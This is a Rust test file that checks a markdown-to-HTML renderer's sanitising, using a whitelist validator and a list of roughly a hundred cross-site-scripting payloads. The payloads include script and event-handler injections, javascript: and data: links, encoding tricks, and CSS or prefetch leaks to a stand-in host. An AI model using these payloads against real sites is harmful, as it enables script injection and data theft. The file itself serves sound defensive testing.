//! Hostile texts, whole and cut at every character: no live tag, no handler, no foreign scheme.

use super::{DRESS, html, tail};
use crate::render::markdown::to_html;

/// Fails unless every tag in `html` is one that the writer or the maths check may produce, with harmless attributes.
pub fn assert_safe(html: &str, source: &str) {
    let mut rest = html;
    while let Some(open) = rest.find('<') {
        let close = rest[open..]
            .find('>')
            .unwrap_or_else(|| panic!("open tag in {html}\nfrom {source}"));
        check_tag(&rest[open + 1..open + close], source);
        rest = &rest[open + close + 1..];
    }
}

fn check_tag(tag: &str, source: &str) {
    const TAGS: &str = " p br hr h2 h3 h4 h5 h6 em strong del code pre div span a sup ul ol li label input blockquote table \
        thead tbody tr th td section math mrow mi mo mn mtext mspace mfrac msqrt mroot msub msup msubsup munder mover \
        munderover mmultiscripts mprescripts mtable mtr mtd mpadded mphantom merror mstyle ms b i u s ";
    // The one button there is: nothing that a text says can make another.
    if let Some(button) = tag.strip_prefix("button") {
        assert_eq!(
            button, " class=\"code-copy\" type=\"button\" data-act=\"copy-code\"",
            "from {source}"
        );
        return;
    }
    if tag == "/button" {
        return;
    }
    let body = tag.trim_start_matches('/').trim_end_matches('/');
    let name = body.split(' ').next().unwrap_or_default();
    assert!(
        !name.is_empty() && TAGS.contains(&format!(" {name} ")),
        "tag <{tag}> from {source}"
    );
    let mut rest = body[name.len()..].trim_start();
    while !rest.is_empty() {
        let end = rest.find(['=', ' ']).unwrap_or(rest.len());
        let attribute = &rest[..end];
        assert!(
            !attribute.starts_with("on") && attribute != "src" && attribute != "srcdoc",
            "{attribute} from {source}"
        );
        rest = &rest[end..];
        if let Some(quoted) = rest.strip_prefix("=\"") {
            let close = quoted
                .find('"')
                .unwrap_or_else(|| panic!("open value in <{tag}>"));
            let value = &quoted[..close];
            assert!(
                !value.contains(['<', '>', '\n', '\t']) || attribute == "title",
                "{attribute}={value} from {source}"
            );
            if attribute == "href" {
                let lower = value.to_ascii_lowercase();
                let good = ["http://", "https://", "mailto:", "#"]
                    .iter()
                    .any(|scheme| lower.starts_with(scheme));
                assert!(good, "href {value} from {source}");
            }
            if attribute == "style" {
                assert!(
                    !value.contains('(') && !value.contains("position"),
                    "style {value} from {source}"
                );
            }
            rest = &quoted[close + 1..];
        }
        rest = rest.trim_start();
    }
}

const PAYLOADS: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//a.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "text <script>alert(1)</script> text",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<style>@import 'https://a.example/x.css';</style>",
    "<style>body{background:url(https://a.example/leak)}</style>",
    "<link rel=stylesheet href=https://a.example/x.css>",
    "<link rel=prefetch href=https://a.example/?leak>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\">",
    "<object data=data:text/html,<script>alert(1)</script>>",
    "<embed src=https://a.example/x.swf>",
    "<video poster=https://a.example/leak><source src=x onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<base href=https://a.example/>",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<template><script>alert(1)</script></template>",
    "<title></title><script>alert(1)</script>",
    "<textarea></textarea><script>alert(1)</script>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><script>alert(1)</script>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<x onclick=alert(1)>x</x>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;&#x61;vascript:alert(1))",
    "[x](java&Tab;script:alert(1))",
    "[x](java&NewLine;script:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](< javascript:alert(1)>)",
    "[x](&#1;javascript:alert(1))",
    "[x](\\javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](DATA:image/svg+xml,<svg/onload=alert(1)>)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://a.example/1)",
    "[x](//a.example)",
    "[x](https://a.example/\"onmouseover=\"alert(1))",
    "[x](https://a.example 'x\" onmouseover=\"alert(1)')",
    "[x](https://a.example \"</a><script>alert(1)</script>\")",
    "[<img src=x onerror=alert(1)>](https://a.example)",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "[y]: data:text/html,x\n\n[y]",
    "<javascript:alert(1)>",
    "<vbscript:x> <data:text/html,x>",
    "![x](javascript:alert(1))",
    "![x](https://a.example/?leak=secret)",
    "![x\" onerror=\"alert(1)](https://a.example/i.png)",
    "![<script>alert(1)</script>](x)",
    "[![x](javascript:alert(1))](javascript:alert(1))",
    "[![x](https://a.example/i.png)](https://a.example)",
    "xmpp:me@a.example javascript:alert(1) www.a.example/<script>",
    "https://a.example/\"><script>alert(1)</script>",
    "```\"><script>alert(1)</script>\n</code></pre><script>alert(1)</script>\n```",
    "```html\" onclick=\"alert(1)\n<script>\n```",
    "```<script>\nx\n```",
    "~~~a\"b'c<d>\nx\n~~~",
    "`<script>alert(1)</script>`",
    "| <script> | b |\n|---|---|\n| <img src=x onerror=alert(1)> | [x](javascript:x) |",
    "- [ ] <script>alert(1)</script>",
    "> <script>alert(1)</script>",
    "a[^<script>]\n\n[^<script>]: <img src=x onerror=alert(1)>",
    "a[^x\"y]\n\n[^x\"y]: note",
    "$\\href{javascript:alert(1)}{x}$",
    "$\\text{<script>alert(1)</script>}$",
    "$</math><script>alert(1)</script>$",
    "$$\\style{background:url(https://a.example)}{x}$$",
    "$\\class{x\" onclick=\"alert(1)}{x}$",
    "$\\color{red\" onclick=\"alert(1)}{x}$",
    "$\\label{\"><script>alert(1)</script>} x$",
    "$\\begin{array}{\"><script>} x \\end{array}$",
    "\\(\\unicode{x3c}script\\)",
    "\\[<img src=x onerror=alert(1)>\\]",
    "```math\n</math><script>alert(1)</script>\n```",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\\<script>alert(1)\\</script>",
    "<script\n>alert(1)</script\n>",
    "<img\nsrc=x\nonerror=alert(1)>",
    "\u{0}<script>\u{0}alert(1)</script>",
    "<s\u{0}cript>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
    "[\u{202e}x](https://a.example/\u{202e}gpj.exe)",
];

#[test]
fn hostile_texts_are_harmless_whole_and_at_every_cut() {
    assert!(PAYLOADS.len() >= 60);
    for payload in PAYLOADS {
        for text in [
            payload.to_string(),
            format!("- **{payload}"),
            format!("文字 {payload} 文字"),
        ] {
            assert_safe(&html(&text), &text);
            for (at, _) in text.char_indices() {
                assert_safe(&tail(&text[..at]), &text[..at]);
            }
        }
    }
}

#[test]
fn a_payload_in_two_blocks_is_harmless_in_each() {
    for payload in PAYLOADS {
        for (at, _) in payload.char_indices() {
            assert_safe(&to_html(&payload[..at], DRESS), payload);
            assert_safe(&to_html(&payload[at..], DRESS), payload);
        }
    }
}
